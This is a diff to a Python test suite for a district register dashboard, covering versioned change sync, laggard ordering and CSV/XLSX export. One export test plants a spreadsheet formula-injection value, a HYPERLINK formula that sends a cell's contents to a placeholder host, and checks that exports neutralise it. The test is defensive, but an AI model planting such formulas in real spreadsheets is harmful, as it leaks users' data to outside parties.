@@ -45,7 +45,7 @@ from collections.abc import Iterator
 import pandas as pd
 import pytest
 from dash import no_update
-from sqlalchemy import update
+from sqlalchemy import select, update
 from test_web_support import NOW, S1, S2, TODAY, build_small_district, use_as_app_database
 
 from callbacks import registers as reg_callbacks
@@ -55,6 +55,7 @@ from dashboard.db import get_engine, session_scope
 from dashboard.idcodes import resident_id_check_char
 from dashboard.models import (
     ConstructionSite,
+    DataVersion,
     DisinfectionTask,
     Enterprise,
     Shop,
@@ -287,22 +288,29 @@ def test_reg005_disinfection_today_and_overdue(reg_session):
     assert frame["task_id"][0] == f"K1|{(TODAY - 2 * DAY).isoformat()}"
 
 
-def test_reg006_changed_since_with_match_flags(reg_session):
+def _stamp(session, model, version: int, **where) -> None:
+    """Rows written by the write of data version ``version`` (what the ingestion stamps)."""
+    column, values = next(iter(where.items()))
+    session.execute(
+        update(model).where(getattr(model, column).in_(values)).values(sync_version=version)
+    )
+
+
+def test_reg006_changed_since_by_sync_version_with_match_flags(reg_session):
     reg_session.execute(
         update(Enterprise)
         .where(Enterprise.credit_code.in_([E[5], E[8]]))
         .values(state="reopened", updated_at=T1)
     )
-    reg_session.execute(
-        update(Enterprise).where(Enterprise.credit_code == E[3]).values(updated_at=T1)
-    )
+    _stamp(reg_session, Enterprise, 7, credit_code=[E[3], E[5], E[8]])
+    _stamp(reg_session, Enterprise, 4, credit_code=[E[6]])  # an earlier write, already seen
     reg_session.execute(
         update(DisinfectionTask).where(DisinfectionTask.place_id == "K1").values(done_at=T1)
     )
+    _stamp(reg_session, DisinfectionTask, 3, place_id=["K1", "K4", "K5"])
     reg_session.commit()
-    since = T0 + dt.timedelta(minutes=1)
     changed = register_tables.changed_since(
-        "enterprises", since, session=reg_session, scope=WHOLE, today=TODAY, state="approved"
+        "enterprises", 4, session=reg_session, scope=WHOLE, today=TODAY, state="approved"
     )
     assert dict(zip(changed["credit_code"], changed["match"], strict=True)) == {
         E[3]: True,  # still approved
@@ -310,32 +318,292 @@ def test_reg006_changed_since_with_match_flags(reg_session):
         E[8]: False,
     }
     in_s2 = register_tables.changed_since(
-        "enterprises", since, session=reg_session, scope=WHOLE, today=TODAY, subdistrict=S2
+        "enterprises", 4, session=reg_session, scope=WHOLE, today=TODAY, subdistrict=S2
     )
     assert dict(zip(in_s2["credit_code"], in_s2["match"], strict=True)) == {
         E[3]: False,
         E[5]: True,
         E[8]: True,
     }
-    assert register_tables.sync_mark("enterprises", session=reg_session, scope=WHOLE) == T1
-    assert (
-        len(
-            register_tables.changed_since(
-                "enterprises", T1, session=reg_session, scope=WHOLE, today=TODAY
-            )
-        )
-        == 0
-    )
+    # The grid gets the rows to keep in full, those to drop as their key only.
+    sent = register_tables.records(in_s2, "enterprises", lang="zh", timezone="Asia/Shanghai")
+    assert {"credit_code": E[3], "match": False} in sent
+    assert [r["credit_code"] for r in sent if r["match"]] == [E[5], E[8]]
+    assert register_tables.sync_mark("enterprises", session=reg_session) == 7
+    assert register_tables.sync_mark("shops", session=reg_session) is None  # never stamped
+    assert len(_changed(reg_session, "enterprises", 7)) == 0
+    # Rows never stamped (NULL: written before stamping) are in the full table only.
+    assert set(_changed(reg_session, "enterprises", None)["credit_code"]) == {
+        E[3],
+        E[6],
+        E[5],
+        E[8],
+    }
     tasks = register_tables.changed_since(
-        "disinfection", since, session=reg_session, scope=WHOLE, today=TODAY
+        "disinfection", 0, session=reg_session, scope=WHOLE, today=TODAY
     )
     # K1 done now (an earlier task, done: out of the table); K4 done an hour ago (today's:
     # stays); K5 falls due tomorrow (not shown).
-    assert dict(zip(tasks["place_id"], tasks["match"], strict=True)) == {
+    assert dict(zip(tasks["task_id"].str[:2], tasks["match"], strict=True)) == {
         "K1": False,
         "K4": True,
         "K5": False,
     }
+
+
+def _changed(session, name, mark, scope=WHOLE, **kw) -> pd.DataFrame:
+    return register_tables.changed_since(
+        name, mark, session=session, scope=scope, today=TODAY, **kw
+    )
+
+
+def test_reg013_lag_rank_order_is_the_documented_one(reg_session):
+    """Unchecked arrivals (whatever the planned date) and never-reported shops first, then the
+    most days behind, then the rest; ties by key. A hand-made sites register:
+
+        G1 unchecked 2, planned none        no date        first
+        G4 unchecked 1, planned TODAY-7     no date        second (key after G1)
+        G5 registered, planned TODAY-30     30 days
+        G2 approved, planned TODAY-2        2 days
+        G6 approved, planned TODAY-2        2 days         (key after G2)
+        G3 reopened                         not lagging
+    """
+    reg_session.add_all(
+        [
+            ConstructionSite(
+                site_id="G4",
+                name="四号工地",
+                subdistrict_code=S1,
+                state="approved",
+                planned_reopen_date=TODAY - 7 * DAY,
+                key_region_arrivals=1,
+                unchecked_arrivals=1,
+            ),
+            ConstructionSite(
+                site_id="G5",
+                name="五号工地",
+                subdistrict_code=S2,
+                state="registered",
+                planned_reopen_date=TODAY - 30 * DAY,
+            ),
+            ConstructionSite(
+                site_id="G6",
+                name="六号工地",
+                subdistrict_code=S2,
+                state="approved",
+                planned_reopen_date=TODAY - 2 * DAY,
+            ),
+        ]
+    )
+    reg_session.commit()
+    frame = _frame(reg_session, "sites")
+    documented = ["G1", "G4", "G5", "G2", "G6", "G3"]
+    assert _keys(frame, "sites") == documented
+    by_rank = frame.sort_values(["lag_rank", "site_id"])
+    assert list(by_rank["site_id"]) == documented
+    ranks = dict(zip(frame["site_id"], frame["lag_rank"], strict=True))
+    assert ranks["G1"] == ranks["G4"] == 0
+    assert ranks["G5"] < ranks["G2"] == ranks["G6"] < ranks["G3"]
+    # Shops: never reported first, though its "days behind" is blank (AG Grid would sort a
+    # blank last in a descending sort).
+    shops = _frame(reg_session, "shops")
+    ranked = shops.sort_values(["lag_rank", "licence_id"])
+    assert list(ranked["licence_id"]) == ["L4", "L2", "L1", "L3"]
+    assert list(ranked["lag_rank"])[0] == 0
+
+
+def test_reg014_grid_sorts_by_lag_rank_then_key(reg_db):
+    for name in register_tables.REGISTERS:
+        defs = reg_callbacks.column_defs(name, "zh")
+        sorted_by = sorted((d["sortIndex"], d["field"], d["sort"]) for d in defs if "sort" in d)
+        key = register_tables.register(name).key
+        assert sorted_by == [(0, "lag_rank", "asc"), (1, key, "asc")], name
+        assert next(d for d in defs if d["field"] == "lag_rank")["hide"] is True
+    rows, *_ = reg_callbacks.load_grid("shops", None, None, None, "zh", None)
+    assert [(r["licence_id"], r["lag_rank"]) for r in rows][:1] == [("L4", 0)]
+    assert all(isinstance(r["lag_rank"], int) for r in rows)
+
+
+def test_reg015_disinfection_done_earlier_and_new_task_arrive_on_the_next_tick(reg_db, tmp_path):
+    """The review's reproduction: a task done at 09:40 is synced; then a file brings task B
+    done at 09:30 (before the mark's time) and C, new, due today. Both come on the next tick."""
+    _load, sync = _load_and_tick_setup(reg_db, "disinfection")
+    at_0940 = dt.datetime(2026, 11, 21, 1, 40, tzinfo=dt.UTC)
+    with session_scope(reg_db) as session:
+        version = versions.bump("disinfection", session=session, at=at_0940)
+        session.execute(
+            update(DisinfectionTask)
+            .where(DisinfectionTask.place_id == "K3")
+            .values(done_at=at_0940, sync_version=version)
+        )
+    changes, fresh, reload = reg_callbacks.tick(1, "disinfection", None, None, "zh", sync, None)
+    assert [(r["task_id"][:2], r["state"]) for r in changes["rows"]] == [("K3", "已消杀")]
+    assert changes["mark"] == version and reload is no_update
+
+    feed = tmp_path / "disinfection.csv"
+    feed.write_text(
+        "place_id,due_on,place_name,subdistrict_code,done_at\n"
+        f"K1,{TODAY - 2 * DAY},一号菜场,{S1},2026-11-21T09:30:00+08:00\n"
+        f"K6,{TODAY},六号楼宇,{S2},\n",
+        encoding="utf-8",
+    )
+    _load_feed(reg_db, "disinfection", feed, (DisinfectionTask, "place_id", ["K1", "K6"]))
+    changes2, *_ = reg_callbacks.tick(2, "disinfection", None, None, "zh", sync, changes)
+    got = {r["task_id"]: r for r in changes2["rows"]}
+    k1 = f"K1|{TODAY - 2 * DAY}"
+    k6 = f"K6|{TODAY}"
+    assert set(got) == {k1, k6}
+    assert got[k1] == {"task_id": k1, "match": False}  # done: out of the overdue list
+    assert got[k6]["match"] is True and got[k6]["state"] == "待消杀"
+    assert changes2["mark"] > changes["mark"]
+
+
+def _load_and_tick_setup(url: str, name: str):
+    load = reg_callbacks.load_grid(name, None, None, None, "zh", None)
+    return load, load[2]
+
+
+def _load_feed(url: str, kind: str, path, stamp: tuple) -> None:
+    """Load a feed file through the real ingestion path. Until the ingestion stamps rows'
+    sync_version itself (another change), the rows it wrote get the version it bumped."""
+    from dashboard.ingest import load_file
+
+    model, column, keys = stamp
+    with session_scope(url) as session:
+        report = load_file(kind, path, session=session, now=NOW)
+        assert (report.rows_loaded, report.rows_quarantined) == (2, 0), report.summary()
+        version = session.scalar(select(DataVersion.version).where(DataVersion.dataset == kind))
+        session.execute(
+            update(model)
+            .where(getattr(model, column).in_(keys), model.sync_version.is_(None))
+            .values(sync_version=version)
+        )
+
+
+def test_reg016_rows_committed_out_of_order_arrive(reg_db):
+    """Two loads overlap: one started at 09:50 (its rows' updated_at) but committed after one
+    started at 09:58. The mark after the 09:58 load is past 09:50 by time, but the late
+    commit has the higher sync_version (versions commit in order), so it arrives."""
+    _load, sync = _load_and_tick_setup(reg_db, "enterprises")
+    with session_scope(reg_db) as session:
+        first = versions.bump("enterprises", session=session, at=NOW - dt.timedelta(minutes=2))
+        session.execute(
+            update(Enterprise)
+            .where(Enterprise.credit_code == E[1])
+            .values(capacity_pct=50.0, updated_at=NOW - dt.timedelta(minutes=2), sync_version=first)
+        )
+    changes, *_ = reg_callbacks.tick(1, "enterprises", None, None, "zh", sync, None)
+    assert [r["credit_code"] for r in changes["rows"]] == [E[1]]
+    with session_scope(reg_db) as session:
+        second = versions.bump("enterprises", session=session, at=NOW)
+        session.execute(
+            update(Enterprise)
+            .where(Enterprise.credit_code == E[2])
+            .values(
+                capacity_pct=60.0, updated_at=NOW - dt.timedelta(minutes=10), sync_version=second
+            )
+        )
+    changes2, *_ = reg_callbacks.tick(2, "enterprises", None, None, "zh", sync, changes)
+    assert [(r["credit_code"], r["capacity_pct"]) for r in changes2["rows"]] == [(E[2], 60.0)]
+
+
+def test_reg017_a_row_that_left_the_scope_is_sent_as_its_key_only(reg_session):
+    s1_only = scope_of([S1], session=reg_session)
+    reg_session.execute(
+        update(Enterprise)
+        .where(Enterprise.credit_code == E[6])
+        .values(subdistrict_code=S2, name="己公司（迁出）", sync_version=9)
+    )
+    reg_session.execute(
+        update(Enterprise).where(Enterprise.credit_code == E[1]).values(sync_version=9)
+    )
+    reg_session.commit()
+    frame = _changed(reg_session, "enterprises", 8, scope=s1_only)
+    sent = register_tables.records(frame, "enterprises", lang="zh", timezone="Asia/Shanghai")
+    by_key = {r["credit_code"]: r for r in sent}
+    assert by_key[E[6]] == {"credit_code": E[6], "match": False}
+    assert by_key[E[1]]["match"] is True and by_key[E[1]]["name"] == "甲公司"
+    assert "迁出" not in json.dumps(sent, ensure_ascii=False)
+    # Disinfection: the key is place|day.
+    reg_session.execute(
+        update(DisinfectionTask)
+        .where(DisinfectionTask.place_id == "K1")
+        .values(subdistrict_code=S2, sync_version=2)
+    )
+    reg_session.commit()
+    tasks = _changed(reg_session, "disinfection", 1, scope=s1_only)
+    sent = register_tables.records(tasks, "disinfection", lang="zh", timezone="Asia/Shanghai")
+    assert sent == [{"task_id": f"K1|{TODAY - 2 * DAY}", "match": False}]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_reg018_exports_defuse_formulas(reg_session, fmt):
+    evil = '=HYPERLINK("http://example.invalid/?x="&A1,"点此")'
+    names = {E[1]: evil, E[2]: "+86 21 1234", E[3]: "-5", E[4]: "@SUM(A1)", E[7]: "\t=1+1"}
+    for code, name in names.items():
+        reg_session.execute(
+            update(Enterprise).where(Enterprise.credit_code == code).values(name=name)
+        )
+    reg_session.commit()
+    frame = register_tables.export_frame(
+        "enterprises",
+        [E[1], E[2], E[3], E[4], E[7], E[5]],
+        session=reg_session,
+        scope=WHOLE,
+        today=TODAY,
+        lang="zh",
+        timezone="Asia/Shanghai",
+    )
+    data = register_tables.export_bytes(frame, fmt)
+    if fmt == "csv":
+        back = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+        column = back[0].index("名称")
+        cells = [row[column] for row in back[1:]]
+        days = [row[back[0].index("滞后天数")] for row in back[1:]]
+    else:
+        import openpyxl
+
+        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+        header = [c.value for c in sheet[1]]
+        column = header.index("名称") + 1
+        cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
+        assert [c.data_type for c in cells] == ["s"] * 6  # text, not a formula ("f")
+        days = [sheet.cell(row=r, column=header.index("滞后天数") + 1).value for r in range(2, 8)]
+        cells = [c.value for c in cells]
+    assert cells == [
+        "'" + evil,
+        "'+86 21 1234",
+        "'-5",
+        "'@SUM(A1)",
+        "'\t=1+1",
+        "戊公司",
+    ]
+    assert days[-1] in ("3", 3)  # numbers stay numbers
+
+
+def test_reg019_no_tick_before_the_full_load_one_reload_at_the_day_change(reg_db, monkeypatch):
+    # No SYNC yet (the full load is on its way), or a SYNC of another view: the tick is silent.
+    assert reg_callbacks.tick(1, "enterprises", None, None, "zh", None, None) == (no_update,) * 3
+    _load, sync = _load_and_tick_setup(reg_db, "enterprises")
+    assert reg_callbacks.tick(2, "enterprises", S2, None, "zh", sync, None) == (no_update,) * 3
+    assert reg_callbacks.tick(3, "shops", None, None, "zh", sync, None) == (no_update,) * 3
+    assert reg_callbacks.tick(4, "enterprises", None, None, "zh", sync, None) == (no_update,) * 3
+    # Midnight in Shanghai: the tick asks once for the whole table, then waits for it.
+    monkeypatch.setattr(reg_callbacks, "utcnow", lambda: NOW + dt.timedelta(hours=14))
+    assert reg_callbacks.tick(5, "enterprises", None, None, "zh", sync, None) == (
+        no_update,
+        no_update,
+        "2026-11-22",
+    )
+    assert (
+        reg_callbacks.tick(6, "enterprises", None, None, "zh", sync, None, "2026-11-22")
+        == (no_update,) * 3
+    )
+    rows, columns, sync2, *_ = reg_callbacks.load_grid(
+        "enterprises", None, None, "2026-11-22", "zh", sync
+    )
+    assert sync2["day"] == "2026-11-22" and sync2["load"] == sync["load"] + 1
+    assert columns is no_update and len(rows) == 8
 
 
 def _xlsx_text(data: bytes) -> str:
@@ -437,46 +705,43 @@ def _bump(url: str, dataset: str, at: dt.datetime) -> None:
 
 
 def test_reg011_full_table_then_nothing_then_only_changed_rows(reg_db):
-    rows, columns, changes, sync, fresh, count = reg_callbacks.refresh_grid(
+    rows, columns, sync, fresh, count = reg_callbacks.load_grid(
         "enterprises", None, None, None, "zh", None
     )
     assert [r["credit_code"] for r in rows] == [E[6], E[5], E[1], E[2], E[3], E[4], E[7], E[8]]
     assert rows[0]["state"] == "已登记" and rows[0]["lagging"] is True
     assert rows[0]["lag_reason"] == "计划复工日已过"
-    assert [c["field"] for c in columns][:3] == ["lagging", "credit_code", "name"]
-    assert changes is None
+    assert [c["field"] for c in columns][:3] == ["lag_rank", "credit_code", "name"]
     assert count == "共 8 条，其中滞后 2 条"
+    assert (sync["n"], sync["k"]) == (8, 2)
     assert fresh == "数据截至 09:50"  # the enterprises were written at 01:50 UTC
-    assert sync["mark"] == T0.isoformat()
+    assert sync["mark"] is None  # no row stamped yet
     personal = json.dumps(rows, ensure_ascii=False)
     assert "id_number" not in personal
 
-    again = reg_callbacks.refresh_grid("enterprises", None, None, 1, "zh", sync)
-    assert again == (no_update,) * 6
+    assert reg_callbacks.tick(1, "enterprises", None, None, "zh", sync, None) == (no_update,) * 3
 
     with session_scope(reg_db) as session:
+        version = versions.bump("enterprises", session=session, at=T1)
         session.execute(
             update(Enterprise)
             .where(Enterprise.credit_code == E[5])
-            .values(state="reopened", updated_at=T1)
+            .values(state="reopened", updated_at=T1, sync_version=version)
         )
-        versions.bump("enterprises", session=session, at=T1)
-    rows2, columns2, changes2, sync2, fresh2, count2 = reg_callbacks.refresh_grid(
-        "enterprises", None, None, 2, "zh", sync
-    )
-    assert rows2 is no_update and columns2 is no_update and count2 is no_update
-    assert [(r["credit_code"], r["state"], r["lagging"], r["match"]) for r in changes2["rows"]] == [
+    changes, fresh2, reload = reg_callbacks.tick(2, "enterprises", None, None, "zh", sync, None)
+    assert [(r["credit_code"], r["state"], r["lagging"], r["match"]) for r in changes["rows"]] == [
         (E[5], "已复工", False, True)
     ]
-    assert changes2["key"] == "credit_code" and sync2["mark"] == T1.isoformat()
+    assert changes["key"] == "credit_code" and changes["mark"] == version
+    assert changes["load"] == sync["load"] and reload is no_update
     assert fresh2 == "数据截至 09:55"
+    # Nothing moved since: nothing sent; the mark is the tick's, not the full load's.
+    assert reg_callbacks.tick(3, "enterprises", None, None, "zh", sync, changes) == (no_update,) * 3
 
     # A filter: the whole table again, same columns (same register).
-    rows3, columns3, changes3, *_ = reg_callbacks.refresh_grid(
-        "enterprises", S2, None, 3, "zh", sync2
-    )
+    rows3, columns3, sync3, *_ = reg_callbacks.load_grid("enterprises", S2, None, None, "zh", sync)
     assert [r["credit_code"] for r in rows3] == [E[4], E[5], E[8]]
-    assert columns3 is no_update and changes3 is None
+    assert columns3 is no_update and sync3["mark"] == version
 
 
 def test_reg012_export_callback_builds_the_file_from_the_ids(reg_db):
@@ -610,12 +875,12 @@ def test_reg020_browser_loads_rows_and_a_db_change_arrives_as_a_transaction(live
     # A marker on the grid's API object: a re-created grid would not carry it.
     browser.execute_script("dash_ag_grid.getApi('reg-grid').__regMarker = 'kept';")
     with session_scope(url) as session:
+        version = versions.bump("enterprises", session=session)
         session.execute(
             update(Enterprise)
             .where(Enterprise.credit_code == E[6])
-            .values(state="reopened", updated_at=dt.datetime.now(dt.UTC))
+            .values(state="reopened", updated_at=dt.datetime.now(dt.UTC), sync_version=version)
         )
-        versions.bump("enterprises", session=session)
     moved = _wait(
         browser,
         "const n = dash_ag_grid.getApi('reg-grid').getRowNode(arguments[0]);"
@@ -629,7 +894,24 @@ def test_reg020_browser_loads_rows_and_a_db_change_arrives_as_a_transaction(live
     assert applied and applied[-1]["update"] == 1 and applied[-1]["add"] == 0
     rows = browser.execute_script(GRID_ROWS_JS)
     assert rows[0][0] == E[5]  # the grid's own sort moved the row out of the laggards
+    count = browser.find_element("id", "reg-count").text
+    assert count == "共 8 条，其中滞后 1 条"  # kept by the transaction's deltas
     assert not [e for e in browser.get_log("browser") if e["level"] == "SEVERE"]
+
+
+def test_reg022_browser_keeps_the_servers_laggard_order(live, browser):
+    """Shops: L4 never reported (days behind blank) first, then L2 one day behind. Sorting by
+    days behind, descending, AG Grid would put the blank last; the grid sorts by lag_rank."""
+    base, _url = live
+    browser.get(base + "/registers?register=shops")
+    rows = _wait(
+        browser,
+        "let api = null; try { api = dash_ag_grid.getApi('reg-grid'); } catch (e) { return null; }"
+        "if (!api || !api.getRowNode('L4')) return null; const rows = [];"
+        "api.forEachNodeAfterFilterAndSort(n => rows.push(n.data.licence_id)); return rows;",
+        what="the shops",
+    )
+    assert rows == ["L4", "L2", "L1", "L3"]
 
 
 def test_reg021_browser_search_then_export_gives_the_rows_shown(live, browser, tmp_path):
